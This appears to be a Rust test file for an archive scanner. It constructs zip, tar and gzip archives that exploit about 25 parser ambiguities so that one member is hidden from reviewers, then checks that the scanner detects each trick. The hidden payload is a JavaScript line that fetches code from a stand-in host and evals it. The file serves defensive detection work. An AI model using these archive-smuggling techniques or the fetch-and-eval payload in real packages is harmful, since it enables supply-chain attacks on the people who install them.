//! Two readers: every way in which an archive can show one thing to a reviewer and another to an installer is built here;
//! the hidden view is scanned, and the finding names the tools that differ.

use lurescan::finding::{Report, Verdict};
use lurescan::scan::{Options, Unobserved, scan};
use lurescan::source::Target;
use lurescan::unpack::Ambiguity;

use crate::case::ENGINE;
use crate::unpack::gzip;

/// What is hidden in one of the views.
const LURE: &[u8] = b"fetch('https://lure.invalid/x').then((r) => r.text()).then((t) => eval(t));\n";
const PLAIN: &[u8] = b"module.exports = (a, b) => a + b;\n";

pub fn scan_bytes(name: &str, bytes: Vec<u8>) -> Report {
    let target = Target::Stdin { name: name.into(), bytes: bytes.into() };
    let options = Options { threads: 1, ..Options::default() };
    scan(name, &target, &ENGINE, &options, &Unobserved).expect("there is something to scan")
}

fn le(value: usize, width: usize) -> Vec<u8> {
    value.to_le_bytes()[..width].to_vec()
}

/// A header beside its data, and the data.
fn local(name: &[u8], data: &[u8], packed: usize, method: usize, flags: usize) -> Vec<u8> {
    let mut out = b"PK\x03\x04\x14\0".to_vec();
    for field in [le(flags, 2), le(method, 2), le(0, 8), le(packed, 4), le(packed, 4), le(name.len(), 2), le(0, 2)] {
        out.extend(field);
    }
    [&out, name, data].concat()
}

/// A record of the directory.
fn central(name: &[u8], packed: usize, offset: usize, flags: usize, extra: &[u8]) -> Vec<u8> {
    let mut out = b"PK\x01\x02\x14\x03\x14\0".to_vec();
    for field in [le(flags, 2), le(0, 2), le(0, 8), le(packed, 4), le(packed, 4), le(name.len(), 2)] {
        out.extend(field);
    }
    for field in [le(extra.len(), 2), le(0, 2), le(0, 2), le(0, 2), le(0o100_644 << 16, 4), le(offset, 4)] {
        out.extend(field);
    }
    [&out, name, extra].concat()
}

fn end(members: usize, size: usize, offset: usize, comment: usize) -> Vec<u8> {
    let mut out = b"PK\x05\x06\0\0\0\0".to_vec();
    for field in [le(members, 2), le(members, 2), le(size, 4), le(offset, 4), le(comment, 2)] {
        out.extend(field);
    }
    out
}

fn stored(name: &str, data: &[u8]) -> Vec<u8> {
    local(name.as_bytes(), data, data.len(), 0, 0)
}

/// An archive of plain members.
fn zip(members: &[(&str, &[u8])]) -> Vec<u8> {
    let (mut out, mut directory) = (Vec::new(), Vec::new());
    for (name, data) in members {
        directory.extend(central(name.as_bytes(), data.len(), out.len(), 0, b""));
        out.extend(stored(name, data));
    }
    let end = end(members.len(), directory.len(), out.len(), 0);
    [out, directory, end].concat()
}

/// One member with two headers of its own.
fn one(local: &[u8], central: &[u8]) -> Vec<u8> {
    [local, central, &end(1, central.len(), local.len(), 0)].concat()
}

fn header(name: &[u8], size: usize, kind: u8) -> Vec<u8> {
    let mut header = tar::Header::new_ustar();
    header.as_old_mut().name[..name.len()].copy_from_slice(name);
    header.set_entry_type(tar::EntryType::new(kind));
    header.set_size(size as u64);
    header.set_mode(0o644);
    header.set_cksum();
    header.as_bytes().to_vec()
}

fn entry(name: &str, data: &[u8], size: usize, kind: u8) -> Vec<u8> {
    let mut out = [&header(name.as_bytes(), size, kind), data].concat();
    out.resize(out.len().next_multiple_of(512), 0);
    out
}

fn file(name: &str, data: &[u8]) -> Vec<u8> {
    entry(name, data, data.len(), b'0')
}

fn pax(key: &str, value: &str) -> Vec<u8> {
    let body = format!(" {key}={value}\n");
    let length = (1..4).map(|digits| body.len() + digits).find(|n| n.to_string().len() + body.len() == *n);
    let record = format!("{}{body}", length.expect("a short record"));
    entry("pax", record.as_bytes(), record.len(), b'x')
}

fn tar(parts: &[Vec<u8>]) -> Vec<u8> {
    [parts.concat(), vec![0; 1_024]].concat()
}

/// The extra field for Unicode names.
fn unicode(header: &[u8], name: &[u8]) -> Vec<u8> {
    let mut sum = flate2::Crc::new();
    sum.update(header);
    [le(0x7075, 2), le(name.len() + 5, 2), vec![1], le(sum.sum() as usize, 4), name.to_vec()].concat()
}

/// Offset of the `n`th record of the directory.
fn record(bytes: &[u8], n: usize) -> usize {
    memchr::memmem::find_iter(bytes, b"PK\x01\x02").nth(n).expect("a record")
}

/// An archive that plays the trick, its name, and the locator at which the hidden code has to come out.
#[allow(clippy::too_many_lines, reason = "one arm for each row of the table")]
pub fn built(ambiguity: Ambiguity) -> (&'static str, Vec<u8>, &'static str) {
    let n = LURE.len();
    match ambiguity {
        Ambiguity::LocalName => {
            ("a.whl", one(&local(b"a/setup.js", LURE, n, 0, 0), &central(b"a/notes.dat", n, 0, 0, b"")), "!/a/setup.js")
        }
        Ambiguity::LocalSize => {
            let both = [PLAIN, LURE].concat();
            let local = local(b"a/i.js", &both, both.len(), 0, 0);
            ("a.zip", one(&local, &central(b"a/i.js", PLAIN.len(), 0, 0, b"")), "!/a/i.js")
        }
        Ambiguity::LocalFlags => {
            ("a.zip", one(&local(b"a/i.js", LURE, n, 0, 0), &central(b"a/i.js", n, 0, 1, b"")), "!/a/i.js")
        }
        Ambiguity::Unlisted => {
            let hidden = stored("pkg/x.js", LURE);
            let shown = stored("pkg/i.js", PLAIN);
            let directory = central(b"pkg/i.js", PLAIN.len(), 0, 0, b"");
            let start = shown.len() + hidden.len();
            let end = end(1, directory.len(), start, 0);
            ("a.whl", [shown, hidden, directory, end].concat(), "!/pkg/x.js")
        }
        Ambiguity::TwoDirectories => ("a.zip", [zip(&[("x.js", LURE)]), zip(&[("i.js", PLAIN)])].concat(), "!/x.js"),
        Ambiguity::EndInComment => {
            // The inner record, in the comment of the outer one, states a comment that does not reach the end.
            let (shown, hidden) = (stored("i.js", PLAIN), stored("x.js", LURE));
            let first = central(b"i.js", PLAIN.len(), 0, 0, b"");
            let second = central(b"x.js", n, shown.len(), 0, b"");
            let at = shown.len() + hidden.len();
            let inner = [end(1, second.len(), at + first.len(), 0), vec![b' '; 8]].concat();
            let outer = end(1, first.len(), at, inner.len());
            let outer = [outer, inner].concat();
            ("a.vsix", [shown, hidden, first, second, outer].concat(), "!/x.js")
        }
        Ambiguity::EndWithoutSize => {
            let mut bytes = zip(&[("x.js", LURE)]);
            let at = bytes.len() - 22;
            bytes[at + 8..at + 16].fill(0);
            ("a.whl", bytes, "!/x.js")
        }
        Ambiguity::CountDiffers => {
            let mut bytes = zip(&[("i.js", PLAIN), ("x.js", LURE)]);
            let at = bytes.len() - 22;
            bytes[at + 8..at + 12].copy_from_slice(&[1, 0, 1, 0]);
            ("a.vsix", bytes, "!/x.js")
        }
        Ambiguity::Zip64Differs => {
            let (shown, hidden) = (stored("i.js", PLAIN), stored("x.js", LURE));
            let first = central(b"i.js", PLAIN.len(), 0, 0, b"");
            let second = central(b"x.js", n, shown.len(), 0, b"");
            let at = shown.len() + hidden.len();
            let wide = at + first.len() + second.len();
            let mut record = b"PK\x06\x06".to_vec();
            for field in [le(44, 8), le(45, 2), le(45, 2), le(0, 8), le(1, 8), le(1, 8)] {
                record.extend(field);
            }
            record.extend([le(second.len(), 8), le(at + first.len(), 8)].concat());
            let locator = [b"PK\x06\x07".to_vec(), le(0, 4), le(wide, 8), le(1, 4)].concat();
            let narrow = end(1, first.len(), at, 0);
            ("a.whl", [shown, hidden, first, second, record, locator, narrow].concat(), "!/x.js")
        }
        Ambiguity::OffsetDiffers => {
            // The directory before the end record is read with another base than the one at the stated offset.
            let (shown, hidden) = (stored("i.js", PLAIN), stored("x.js", LURE));
            let stated = central(b"x.js", n, shown.len(), 0, b"");
            let at = shown.len() + hidden.len();
            let before = central(b"i.js", PLAIN.len(), 0, 0, b"");
            let end = end(1, before.len(), at, 0);
            ("a.whl", [shown, hidden, stated, before, end].concat(), "!/x.js")
        }
        Ambiguity::DuplicateName => ("a.zip", zip(&[("a/i.js", PLAIN), ("a/i.js", LURE)]), "!/a/i.js"),
        Ambiguity::CaseFold => {
            ("a.zip", zip(&[("a/conftest.py", b"x = 1\n"), ("a/ConfTest.py", b"x = 2\n"), ("x.js", LURE)]), "!/x.js")
        }
        Ambiguity::UnicodePath => {
            let extra = unicode(b"a/notes.dat", b"a/x.js");
            ("a.zip", one(&local(b"a/notes.dat", LURE, n, 0, 0), &central(b"a/notes.dat", n, 0, 0, &extra)), "!/a/x.js")
        }
        Ambiguity::Overlap => {
            // The data of the first member is the whole second member.
            let inner = stored("x.js", LURE);
            let outer = local(b"i.js", &inner, inner.len(), 0, 0);
            let directory =
                [central(b"i.js", inner.len(), 0, 0, b""), central(b"x.js", n, outer.len() - inner.len(), 0, b"")]
                    .concat();
            let end = end(2, directory.len(), outer.len(), 0);
            ("a.zip", [outer, directory, end].concat(), "!/x.js")
        }
        Ambiguity::NulInName => ("a.zip", zip(&[("a/x.js\0.txt", LURE)]), "!/a/x.js"),
        Ambiguity::FolderWithContent => ("a.zip", zip(&[("a/x.js/", LURE)]), "!/a/x.js"),
        Ambiguity::Polyglot => {
            let first = tar(&[file("package/package.json", b"{}")]);
            ("a.zip", [first, zip(&[("x.js", LURE)])].concat(), "!/x.js")
        }
        Ambiguity::PaxSize => {
            let inner = file("package/x.js", LURE);
            let parts = [pax("size", &inner.len().to_string()), entry("package/notes.txt", &inner, 0, b'0')];
            ("a.tar", tar(&parts), "!/package/x.js")
        }
        Ambiguity::PaxName => {
            ("a.tar", tar(&[pax("path", "package/x.js"), file("package/notes.dat", LURE)]), "!/package/x.js")
        }
        Ambiguity::LongNames => {
            let long = entry("././@LongLink", b"package/x.js\0", 13, b'L');
            ("a.tar", tar(&[long, pax("path", "package/notes.dat"), file("package/n.dat", LURE)]), "!/package/x.js")
        }
        Ambiguity::LoneEmptyBlock => {
            ("a.tar", tar(&[file("package/i.js", PLAIN), vec![0; 512], file("package/x.js", LURE)]), "!/package/x.js")
        }
        Ambiguity::BehindEnd => ("a.tar", [tar(&[file("i.js", PLAIN)]), tar(&[file("x.js", LURE)])].concat(), "!/x.js"),
        Ambiguity::LinkWithContent => {
            let inner = file("package/x.js", LURE);
            let link = entry("package/link", &inner, inner.len(), b'2');
            ("a.tar", tar(&[file("package/i.js", PLAIN), link]), "!/package/x.js")
        }
        Ambiguity::SeveralRoots => {
            let parts = [file("package/package.json", b"{}"), file("package/x.js", PLAIN), file("other/x.js", LURE)];
            ("a.tgz", gzip(&tar(&parts)), "!/other/x.js")
        }
        Ambiguity::GzipTrailing => {
            ("a.tgz", [gzip(&tar(&[file("i.js", PLAIN)])), LURE.to_vec()].concat(), "!/(after the stream)")
        }
        Ambiguity::GzipMembers => {
            ("a.crate", [gzip(&tar(&[file("i.js", PLAIN)])), gzip(&tar(&[file("x.js", LURE)]))].concat(), "!/x.js")
        }
    }
}

#[test]
fn every_ambiguity_is_told_with_the_readers_that_differ_and_the_hidden_code_is_found() {
    let mut wrong = Vec::new();
    for &ambiguity in Ambiguity::ALL {
        let (name, bytes, hidden) = built(ambiguity);
        let report = scan_bytes(name, bytes);
        let told = report.findings.iter().any(|finding| {
            finding.rule == "archive-ambiguity"
                && finding.message.contains(ambiguity.what())
                && finding.message.contains(ambiguity.readers())
        });
        let found = report
            .findings
            .iter()
            .filter(|finding| finding.rule == "js-fetch-to-code")
            // The same bytes under two names are told once, with both places.
            .any(|finding| finding.also_at.iter().chain([&finding.locator]).any(|at| at.contains(hidden)));
        if !told || !found || report.verdict != Verdict::Block {
            let all: Vec<_> =
                report.findings.iter().map(|f| format!("{} {} {}", f.rule, f.locator, f.message)).collect();
            wrong.push(format!(
                "{ambiguity:?}: told {told}, found {found}, {:?}\n  {}\n  {:?}",
                report.verdict,
                all.join("\n  "),
                report.gaps
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(Ambiguity::ALL.len() >= 15);
}

#[test]
fn the_page_has_a_row_for_every_ambiguity() {
    let page = std::fs::read_to_string("rules/archive-ambiguity.md").expect("the page");
    for ambiguity in Ambiguity::ALL {
        let row = format!("| {} | {} |", ambiguity.what(), ambiguity.readers());
        assert!(page.contains(&row), "no row: {row}");
    }
}

#[test]
fn honest_archives_are_read_one_way() {
    let honest: Vec<(&str, Vec<u8>)> = vec![
        ("loader before it", [b"#!/usr/bin/env python3\n".to_vec(), zip(&[("__main__.py", b"x = 1\n")])].concat()),
        ("comment", {
            let mut bytes = zip(&[("i.js", PLAIN)]);
            let at = bytes.len() - 2;
            bytes[at] = 5;
            [bytes, b"hello".to_vec()].concat()
        }),
        ("empty", zip(&[])),
        ("folders", zip(&[("a/", b""), ("a/i.js", PLAIN)])),
        ("a zip in a zip", zip(&[("i.zip", &zip(&[("i.js", PLAIN)]))])),
        ("two long names that are one", {
            let name = format!("{}/i.js", "d".repeat(120));
            let long = entry("././@LongLink", name.as_bytes(), name.len(), b'L');
            tar(&[long, pax("path", &name), file(&name[..99], PLAIN)])
        }),
        ("times in an extended header", tar(&[pax("mtime", "1.5"), pax_less(), file("i.js", PLAIN)])),
        ("zeros behind a stream", [gzip(&tar(&[file("i.js", PLAIN)])), vec![0; 512]].concat()),
        ("two roots that are no package", tar(&[file("a/i.js", PLAIN), file("b/i.js", b"x")])),
        ("case", zip(&[("a/Index.js", PLAIN), ("a/index.js", b"1")])),
        ("a name in two code pages", {
            let extra = unicode(b"caf\x82.js", "café.js".as_bytes());
            one(&local(b"caf\x82.js", PLAIN, PLAIN.len(), 0, 0), &central(b"caf\x82.js", PLAIN.len(), 0, 0, &extra))
        }),
    ];
    for (what, bytes) in honest {
        let report = scan_bytes("a.bin", bytes);
        let told: Vec<_> = report.findings.iter().map(|f| (&f.rule, &f.message)).collect();
        assert!(told.is_empty() && report.verdict == Verdict::Pass, "{what}: {told:?} {:?}", report.gaps);
    }
    let mut cut = zip(&[("i.js", PLAIN), ("j.js", PLAIN)]);
    let at = record(&cut, 1);
    cut.truncate(at);
    assert_ne!(scan_bytes("a.zip", cut).verdict, Verdict::Pass, "a directory that is cut off is a gap");
}

/// Nothing: an archive may hold folders between its files.
fn pax_less() -> Vec<u8> {
    entry("d/", b"", 0, b'5')
}
